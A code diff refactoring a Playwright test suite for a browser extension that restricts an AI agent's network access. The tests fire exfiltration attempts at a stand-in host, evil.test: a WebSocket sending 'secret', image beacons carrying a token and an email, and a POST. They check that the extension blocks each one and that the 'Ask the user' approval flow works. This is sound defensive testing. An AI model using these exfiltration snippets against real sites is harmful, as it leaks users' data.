@@ -1,8 +1,9 @@
-import { expect, test, type Page } from '@playwright/test';
+import type { Page } from '@playwright/test';
+import { expect, test } from './fixtures/extension';
 import type { TaskPolicyInput } from '../src/core/policy';
 import type { AgentBrowser } from '../src/harness';
-import { startTestServer, type TestServer } from './fixtures/server';
-import { launch, openApp, quiet } from './background.helpers';
+import type { TestServer } from './fixtures/server';
+import { openApp, quiet } from './background.helpers';
 
 /**
  * The network floor alone: the extension WITHOUT the MAIN-world hooks (AF_NO_MAIN_HOOKS build), so
@@ -10,14 +11,6 @@ import { launch, openApp, quiet } from './background.helpers';
  * is the truth. Each attack also runs without the extension (negative control: it reaches the server).
  */
 
-let server: TestServer;
-test.beforeAll(async () => {
-  server = await startTestServer();
-});
-test.afterAll(async () => {
-  await server.close();
-});
-test.beforeEach(() => server.clearLog());
 
 const readOnly: TaskPolicyInput = { version: 1, taskId: 't-floor', issuedAt: 0, expiresAt: null, domains: ['app.test'] };
 const openWeb: TaskPolicyInput = { ...readOnly, taskId: 't-open', domains: null };
@@ -33,17 +26,17 @@ const ATTACKS: Record<string, string> = {
   'WebSocket': `new Promise((done) => { const s = new WebSocket(EVIL.replace('http', 'ws') + '/ws'); s.onopen = () => { s.send('secret'); done(1); }; s.onerror = () => done(0); setTimeout(done, 3000); })`,
 };
 
-async function runAttack(page: Page, source: string): Promise<void> {
+async function runAttack(page: Page, server: TestServer, source: string): Promise<void> {
   await page.evaluate(([evil, code]) => (0, eval)(`const EVIL = ${JSON.stringify(evil)}; ${code}`), [server.origin('evil.test'), source] as const);
 }
 
 /** Runs every attack in one browser (a fresh page each) and returns the evil.test requests per attack. */
-async function attackAll(browser: AgentBrowser): Promise<Record<string, number>> {
+async function attackAll(browser: AgentBrowser, server: TestServer): Promise<Record<string, number>> {
   const reached: Record<string, number> = {};
   for (const [name, source] of Object.entries(ATTACKS)) {
     server.clearLog();
     const page = await openApp(browser, server);
-    await runAttack(page, source);
+    await runAttack(page, server, source);
     await quiet(page);
     reached[name] = server.requests().filter((r) => r.host === 'evil.test').length;
     await page.close();
@@ -51,78 +44,62 @@ async function attackAll(browser: AgentBrowser): Promise<Record<string, number>>
   return reached;
 }
 
-test('the floor alone (no MAIN-world hooks) stops every attack on evil.test', async () => {
-  const browser = await launch({ mainHooks: false });
-  try {
-    await browser.setPolicy(readOnly);
-    const reached = await attackAll(browser);
-    expect(reached).toEqual(Object.fromEntries(Object.keys(ATTACKS).map((name) => [name, 0])));
-  } finally {
-    await browser.close();
-  }
+test('the floor alone (no MAIN-world hooks) stops every attack on evil.test', async ({ launchFence, server }) => {
+  const browser = await launchFence({ mainHooks: false });
+  await browser.setPolicy(readOnly);
+  const reached = await attackAll(browser, server);
+  expect(reached).toEqual(Object.fromEntries(Object.keys(ATTACKS).map((name) => [name, 0])));
 });
 
-test('negative control: without the extension every attack reaches evil.test', async () => {
-  const browser = await launch({ extension: false });
-  try {
-    const reached = await attackAll(browser);
-    for (const [name, count] of Object.entries(reached)) expect(count, name).toBeGreaterThan(0);
-  } finally {
-    await browser.close();
-  }
+test('negative control: without the extension every attack reaches evil.test', async ({ launchFence, server }) => {
+  const browser = await launchFence({ extension: false });
+  const reached = await attackAll(browser, server);
+  for (const [name, count] of Object.entries(reached)) expect(count, name).toBeGreaterThan(0);
 });
 
-async function gotoEvil(browser: AgentBrowser, path: string): Promise<Page> {
+async function gotoEvil(browser: AgentBrowser, server: TestServer, path: string): Promise<Page> {
   const page = await openApp(browser, server);
   await page.goto(`${server.origin('evil.test')}${path}`).catch(() => undefined);
   return page;
 }
 
-test('a navigation off the list lands on the blocked page; "Ask the user" + "Allow once" lets it through', async () => {
-  const browser = await launch({ mainHooks: false });
-  try {
-    await browser.setPolicy(readOnly);
-    const page = await gotoEvil(browser, '/nav');
-    await expect(page).toHaveURL(new RegExp(`^chrome-extension://${browser.extensionId}/blocked.html\\?check=domain_allowlist`));
-    await expect(page.locator('#url')).toHaveText(`${server.origin('evil.test')}/nav`);
-    expect(server.hits('/nav', 'evil.test')).toHaveLength(0);
-    const floorEntries = await browser.audit({ check: 'domain_allowlist' });
-    expect(floorEntries.some((e) => e.layer === 'network' && e.record.decision === 'BLOCK')).toBe(true);
+test('a navigation off the list lands on the blocked page; "Ask the user" + "Allow once" lets it through', async ({ launchFence, server }) => {
+  const browser = await launchFence({ mainHooks: false });
+  await browser.setPolicy(readOnly);
+  const page = await gotoEvil(browser, server, '/nav');
+  await expect(page).toHaveURL(new RegExp(`^chrome-extension://${browser.extensionId}/blocked.html\\?check=domain_allowlist`));
+  await expect(page.locator('#url')).toHaveText(`${server.origin('evil.test')}/nav`);
+  expect(server.hits('/nav', 'evil.test')).toHaveLength(0);
+  const floorEntries = await browser.audit({ check: 'domain_allowlist' });
+  expect(floorEntries.some((e) => e.layer === 'network' && e.record.decision === 'BLOCK')).toBe(true);
 
-    await page.getByRole('button', { name: 'Ask the user' }).click();
-    const [ask] = await browser.waitForApprovals(1);
-    expect(ask!.tool).toBe('browser.navigate');
-    await browser.answer(ask!.id, 'once');
-    await expect(page).toHaveURL(`${server.origin('evil.test')}/nav`);
-    expect(server.hits('/nav', 'evil.test')).toHaveLength(1);
-  } finally {
-    await browser.close();
-  }
+  await page.getByRole('button', { name: 'Ask the user' }).click();
+  const [ask] = await browser.waitForApprovals(1);
+  expect(ask!.tool).toBe('browser.navigate');
+  await browser.answer(ask!.id, 'once');
+  await expect(page).toHaveURL(`${server.origin('evil.test')}/nav`);
+  expect(server.hits('/nav', 'evil.test')).toHaveLength(1);
 });
 
-test('open-web reading: ordinary GETs pass, exfiltration-shaped URLs and writes do not', async () => {
-  const browser = await launch({ mainHooks: false });
-  try {
-    await browser.setPolicy(openWeb);
-    const page = await openApp(browser, server);
-    const token = 'Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MGFiY2RlZmdoaWprbG1ub3A';
-    await page.evaluate((evil) => {
-      const img = (src: string) => new Promise((done) => { const i = new Image(); i.onload = i.onerror = done; i.src = src; });
-      return Promise.all([
-        img(`${evil}/ok?q=blue+shoes`),
-        img(`${evil}/token?d=${'Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MGFiY2RlZmdoaWprbG1ub3A'}`),
-        img(`${evil}/mail?to=alice%40corp.test`),
-        fetch(`${evil}/post`, { method: 'POST', body: 'x' }).catch(() => 0),
-      ]);
-    }, server.origin('evil.test'));
-    await quiet(page);
-    expect(server.hits('/ok', 'evil.test')).toHaveLength(1);
-    expect(server.hits('/token', 'evil.test')).toHaveLength(0);
-    expect(server.hits('/mail', 'evil.test')).toHaveLength(0);
-    expect(server.hits('/post', 'evil.test')).toHaveLength(0);
-    const exfilNav = await gotoEvil(browser, `/nav?d=${token}`);
-    await expect(exfilNav).toHaveURL(/blocked\.html\?check=exfiltration_url/);
-  } finally {
-    await browser.close();
-  }
+test('open-web reading: ordinary GETs pass, exfiltration-shaped URLs and writes do not', async ({ launchFence, server }) => {
+  const browser = await launchFence({ mainHooks: false });
+  await browser.setPolicy(openWeb);
+  const page = await openApp(browser, server);
+  const token = 'Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MGFiY2RlZmdoaWprbG1ub3A';
+  await page.evaluate((evil) => {
+    const img = (src: string) => new Promise((done) => { const i = new Image(); i.onload = i.onerror = done; i.src = src; });
+    return Promise.all([
+      img(`${evil}/ok?q=blue+shoes`),
+      img(`${evil}/token?d=${'Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MGFiY2RlZmdoaWprbG1ub3A'}`),
+      img(`${evil}/mail?to=alice%40corp.test`),
+      fetch(`${evil}/post`, { method: 'POST', body: 'x' }).catch(() => 0),
+    ]);
+  }, server.origin('evil.test'));
+  await quiet(page);
+  expect(server.hits('/ok', 'evil.test')).toHaveLength(1);
+  expect(server.hits('/token', 'evil.test')).toHaveLength(0);
+  expect(server.hits('/mail', 'evil.test')).toHaveLength(0);
+  expect(server.hits('/post', 'evil.test')).toHaveLength(0);
+  const exfilNav = await gotoEvil(browser, server, `/nav?d=${token}`);
+  await expect(exfilNav).toHaveURL(/blocked\.html\?check=exfiltration_url/);
 });
